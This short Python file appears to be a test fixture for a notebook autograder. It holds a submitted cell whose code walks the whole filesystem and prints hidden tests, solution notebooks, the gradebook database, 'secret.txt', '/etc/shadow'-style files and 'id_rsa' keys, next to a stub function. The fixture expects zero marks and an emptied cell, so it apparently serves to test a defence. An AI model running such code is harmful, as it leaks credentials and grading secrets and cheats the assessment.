"""Prints whatever can be found of checks, solutions, gradebook and the host's secrets."""

CELLS = {
    "scale_code": "import os\n"
    "wanted = {'test_tiny.py', 'tiny.ipynb', 'gradebook.db', 'secret.txt', 'shadow', 'id_rsa', 'checking.py'}\n"
    "for place, folders, files in os.walk('/'):\n"
    "    folders[:] = [name for name in folders if name not in ('proc', 'usr', 'dev', 'site-packages')]\n"
    "    for name in wanted.intersection(files):\n"
    "        print(place, name, open(os.path.join(place, name), errors='replace').read())\n"
    "def scale(x, f):\n    return x"
}
DUE = {"scale": 0, "total": 0}
QUICK = True


def look(graded):
    assert graded.text("scale_code") == ""
